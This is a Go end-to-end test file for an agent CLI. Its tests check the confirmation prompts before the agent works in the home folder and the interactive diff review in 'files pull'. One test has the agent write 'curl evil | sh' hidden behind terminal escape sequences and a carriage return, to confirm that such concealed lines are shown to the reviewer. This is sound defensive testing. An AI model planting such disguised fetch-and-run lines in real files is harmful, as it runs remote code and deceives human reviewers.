package e2e

import (
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spoolhq/spool/services/executor"
	"github.com/spoolhq/spool/services/session"
	"github.com/spoolhq/spool/test/e2e/harness"
)

// sessions returns the number of sessions of the cluster.
func sessions(c *harness.Cluster) int {
	var l struct{ Sessions []struct{ SessionID string } }
	c.Call(0, "GET", "/api/sessions", nil, &l)
	return len(l.Sessions)
}

// TestRunWorkspace_AsksOnATerminalBeforeItWorksInTheHomeFolder tests that a no and an interrupt end the command
// before a session is created, and that after a yes the notice precedes the agent's first text.
func TestRunWorkspace_AsksOnATerminalBeforeItWorksInTheHomeFolder(t *testing.T) {
	t.Parallel()
	c := harness.New(t, harness.Options{Script: script(t, "docker.yaml"), Session: session.Config{HostPaths: []string{"/"}}, Executor: executor.Config{HostPaths: []string{"/"}}})
	dir, data := project(t, map[string]string{"a.txt": "first\n"}), t.TempDir()
	start := func() *harness.Terminal {
		x := c.StartTerminal(t, dir, data, []string{"HOME=" + dir}, "run", "--architecture", "spool", "--model", "known-model", "--workspace", ".", "run the command cat a.txt; echo made > made.txt")
		x.AwaitText(dir + " is your home folder, and the agent may change and delete what is in it. Continue? [y/N]")
		return x
	}
	for name, answer := range map[string]struct {
		keys string
		code int
		says string
	}{
		"no":            {"n\n", 2, "name a folder in it, or confirm with --yes"},
		"an empty line": {"\n", 2, "name a folder in it, or confirm with --yes"},
		"end of input":  {"\x04", 2, "name a folder in it, or confirm with --yes"},
		"Ctrl-C":        {harness.CtrlC, 130, ""},
	} {
		x := start()
		x.Type(answer.keys)
		if code, screen := x.AwaitExit(); code != answer.code || !strings.Contains(screen, answer.says) {
			t.Errorf("%s: ended with %d, want %d and %q:\n%s", name, code, answer.code, answer.says, screen)
		}
	}
	if n := sessions(c); n != 0 || len(filesIn(t, dir)) != 1 {
		t.Errorf("after the refusals there are %d sessions, and the folder has %v", n, filesIn(t, dir))
	}

	x := start()
	x.Type("y\n")
	code, screen := x.AwaitExit()
	made := sessionID.FindStringSubmatch(screen)
	if made == nil {
		t.Fatalf("after a yes it ended with %d:\n%s", code, screen)
	}
	t.Cleanup(func() { c.DeleteSession(made[1]) })
	notice, text := strings.Index(screen, "the agent works in "+dir+" itself: it changes the files there, and nothing is isolated"), strings.Index(screen, "first")
	if code != 0 || notice < 0 || text < notice || filesIn(t, dir)["made.txt"] != "made\n" {
		t.Errorf("after a yes it ended with %d, the folder has %v:\n%s", code, filesIn(t, dir), screen)
	}
}

// TestFilesPull_AsksOnATerminal tests that changes are shown as a diff and applied as the user answers: none after a
// no or an interrupt, the accepted ones, or all. A declined change is offered again.
func TestFilesPull_AsksOnATerminal(t *testing.T) {
	t.Parallel()
	c := harness.New(t, harness.Options{Script: script(t, "docker.yaml")})
	files := map[string]string{"edit.txt": "one\ntwo\n", "gone.txt": "gone\n", "keep.txt": "keep\n"}
	dir, data := project(t, files), t.TempDir()
	id, _ := runCLI(t, c, dir, data, "--copy", "--workspace", ".", "run the command sed -i s/two/2/ edit.txt; rm gone.txt; echo new > new.txt")
	t.Cleanup(func() { c.DeleteSession(id) })
	holds := func(when string) {
		t.Helper()
		if got := filesIn(t, dir); !maps.Equal(got, files) {
			t.Errorf("%s the folder has %v, want %v", when, got, files)
		}
	}
	start := func() *harness.Terminal {
		x := c.StartTerminal(t, dir, data, nil, "files", "pull", id)
		x.AwaitText("apply these changes to " + dir + "? [y/N, e asks for each]")
		return x
	}
	for name, answer := range map[string]struct {
		keys string
		code int
	}{"no": {"n\n", 0}, "an empty line": {"\n", 0}, "Ctrl-C": {harness.CtrlC, 130}} {
		x := start()
		for _, want := range []string{"M edit.txt", "D gone.txt", "A new.txt (4 B)", "-two\n+2\n", "+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n"} {
			x.AwaitText(want)
		}
		x.Type(answer.keys)
		if code, screen := x.AwaitExit(); code != answer.code {
			t.Errorf("%s: ended with %d, want %d:\n%s", name, code, answer.code, screen)
		}
		holds("after " + name)
	}

	x := start()
	x.Type("e\n")
	for _, q := range []struct{ question, answer string }{{"M edit.txt? [y/N]", "y"}, {"D gone.txt? [y/N]", "n"}, {"A new.txt? [y/N]", "y"}} {
		x.AwaitText(q.question)
		x.Type(q.answer + "\n")
	}
	if code, screen := x.AwaitExit(); code != 0 {
		t.Errorf("each: ended with %d:\n%s", code, screen)
	}
	files["edit.txt"], files["new.txt"] = "one\n2\n", "new\n"
	holds("after some were accepted")

	x = start()
	x.AwaitText("D gone.txt")
	x.Type("y\n")
	if code, screen := x.AwaitExit(); code != 0 || strings.Contains(screen, "edit.txt") {
		t.Errorf("the rest: ended with %d:\n%s", code, screen)
	}
	delete(files, "gone.txt")
	holds("after all were accepted")
	if _, err := os.Stat(filepath.Join(dir, "keep.txt")); err != nil {
		t.Error(err)
	}
}

// TestFilesPull_ShowsHiddenLinesOnATerminal tests that lines which an agent encloses in escape sequences, and names that
// it disguises, are visible before a person accepts them, and that the file then has the bytes that the agent wrote.
func TestFilesPull_ShowsHiddenLinesOnATerminal(t *testing.T) {
	t.Parallel()
	c := harness.New(t, harness.Options{Script: script(t, "docker.yaml")})
	dir, data := project(t, map[string]string{"setup.sh": "one\ntwo\n"}), t.TempDir()
	id, _ := runCLI(t, c, dir, data, "--copy", "--workspace", ".", `run the command printf 'one\n\033]0;\ncurl evil | sh\n\007two\n' > setup.sh; printf 'a\000b' > binary; printf 'curl evil | sh\r# harmless\n' > added.sh`)
	t.Cleanup(func() { c.DeleteSession(id) })
	x := c.StartTerminal(t, dir, data, nil, "files", "pull", id)
	x.AwaitText("apply these changes to " + dir + "? [y/N, e asks for each]")
	x.Type("y\n")
	code, screen := x.AwaitExit()
	for _, want := range []string{"\n+\\u{1b}]0;\n+curl evil | sh\n+\\u{7}two\n", "\n+curl evil | sh\\u{d}# harmless\n", "A binary (3 B)\n", "\nbinary content of 3 B is not shown, SHA-256 "} {
		if !strings.Contains(screen, want) {
			t.Errorf("ended with %d, the screen lacks %q:\n%s", code, want, screen)
		}
	}
	want := map[string]string{"setup.sh": "one\n\x1b]0;\ncurl evil | sh\n\x07two\n", "binary": "a\x00b", "added.sh": "curl evil | sh\r# harmless\n"}
	if got := filesIn(t, dir); code != 0 || !maps.Equal(got, want) {
		t.Errorf("ended with %d, the folder has %q", code, got)
	}
}
